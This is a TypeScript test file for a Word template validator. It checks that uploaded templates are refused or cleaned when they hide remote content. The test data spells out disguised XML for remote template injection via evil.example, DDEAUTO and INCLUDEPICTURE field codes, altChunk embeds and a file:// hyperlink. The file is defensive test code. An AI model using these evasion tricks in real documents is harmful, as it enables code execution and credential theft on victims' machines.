import { checkedTemplate, filledTemplate } from "@/lib/platform/documents/word-template";
import { PLACEHOLDERS } from "@/lib/profiles/templates/cv-placeholder-rules";
import {
  type Changes,
  code,
  field,
  inBody,
  mark,
  partsOf,
  PROPERTIES,
  related,
  relation,
  template,
  textOf,
  VALUES,
  WORD,
} from "@/tests/support/word-templates";

const ELSEWHERE = "http://evil.example/a.dotm";

/** Ways to write the XML of an attack so that a reader of text, rather than of XML, doesn't see it. */
const DISGUISED: [title: string, changes: Changes][] = [
  [
    "a space in an attached template's end tag",
    related(relation("attachedTemplate", ELSEWHERE).replace("/>", "></Relationship >")),
  ],
  ["a > in an attached template's attribute", related(relation("attachedTemplate", ELSEWHERE).replace("rIdX", "r>"))],
  [
    "another namespace's Target and TargetMode first",
    related(
      relation("image", ELSEWHERE).replace(" Id", ` xmlns:a="urn:a" a:TargetMode="Internal" a:Target="styles.xml" Id`),
    ),
  ],
  [
    "a processing instruction in an attached template",
    related(relation("attachedTemplate", ELSEWHERE).replace("/>", "><?a?></Relationship>")),
  ],
  ["a reference in a field's code", inBody(field(code(`&#73;NCLUDEPICTURE "${ELSEWHERE}"`)))],
  [
    "another prefix on a field's code",
    inBody(field(code(`DDEAUTO "${ELSEWHERE}"`).replaceAll("w:instrText", "x:instrText"))),
  ],
  ["another prefix on an embedded document", inBody(`<x:altChunk r:id="rIdX" title="${ELSEWHERE}"/>`)],
];

/** What is left of a template: its parts, or the words in which it is refused. */
async function leftOf(changes: Changes): Promise<string> {
  const named = {
    "word/document.xml": (text: string) =>
      (changes["word/document.xml"]?.(text) ?? text).replace("<w:document", `<w:document xmlns:x="${WORD}"`),
  };
  try {
    return Object.values(partsOf(await checkedTemplate(await template({ ...changes, ...named }), PLACEHOLDERS))).join();
  } catch (error) {
    return (error as Error).name;
  }
}

test.each(DISGUISED)("%s hides nothing: the template is refused or loses it", async (_title, changes) => {
  expect(await leftOf(changes)).not.toContain("evil.example");
});

const alternatives = (choice: string, fallback: string) =>
  '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice ' +
  `Requires="x">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;

test.each([
  ["made by a field within it", `${code("D")}${mark("begin")}${code("QUOTE 68")}${mark("end")}${code("E x")}`],
  ["with a name that another field's result makes", `<w:fldSimple w:instr="PAGE">${code("PAGE ")}</w:fldSimple>`],
  ["with a part that one alternative has", `${alternatives("", code("PAGE "))}${code("DDEAUTO x")}`],
  ["that a text box begins", `${code("PAGE ")}${mark("separate")}${alternatives(mark("begin"), "")}${code("DDE x")}`],
  ["that isn't in the list", code("AUTOTEXTLIST x")],
  ["that leads to a file", code('HYPERLINK "file://evil/x"')],
  ["that doesn't end", `${code("PAGE")}${mark("begin")}`],
])("a field %s is refused", async (_title, runs) => {
  expect(await leftOf(inBody(field(runs)))).toBe("DocumentRefused");
});

test("fields that Word writes by itself are kept, cut into runs or not", async () => {
  const left = await leftOf(
    inBody(
      field(`${code(" PA")}${code("GE \\* MERGEFORMAT ")}${mark("separate")}<w:r><w:t>1</w:t></w:r>`) +
        field(code('TOC \\o "1-3" \\h') + mark("separate") + field(code('HYPERLINK \\l "_Toc1"')).slice(5, -6)) +
        field(code('HYPERLINK "https://acme.example/" \\o "Us"')) +
        '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>',
    ),
  );
  for (const kept of ["GE \\* MERGEFORMAT ", 'TOC \\o "1-3" \\h', "https://acme.example/", ' NUMPAGES "'])
    expect(left).toContain(kept);
});

test("a template under other prefixes is filled as one under the usual ones", async () => {
  const renamed = (text: string) => text.replace(/(<\/?|\s|xmlns:)w(?=[:=])/g, "$1other");
  const bytes = await template({ "word/document.xml": renamed, "word/footer1.xml": renamed });
  const filled = await filledTemplate({
    template: await checkedTemplate(bytes, PLACEHOLDERS),
    values: VALUES,
    properties: PROPERTIES,
    hidden: [],
  });
  const document = partsOf(filled)["word/document.xml"]!;
  expect(textOf(document)).toContain("Tests (C#)");
  expect(document).not.toContain("other:");
});

test("what Word doesn't have to understand is left out: later namespaces, comments and processing instructions", async () => {
  const later = '<l:a xmlns:l="urn:later" l:b="Hopper">Hopper</l:a><!-- Hopper --><?hopper Hopper?>';
  const drawing = alternatives("<w:r><w:t>Hopper</w:t></w:r>", "<w:r><w:t>drawn</w:t></w:r>");
  const left = await leftOf({
    "word/document.xml": (text) =>
      text
        .replace("<w:body>", `<w:body>${later}<w:p>${drawing.replace('"x"', '"l"')}</w:p>`)
        .replace("<w:document", '<w:document xmlns:l="urn:later"'),
  });
  expect(left).toContain("drawn");
  expect(left).not.toMatch(/hopper|later/i);
});
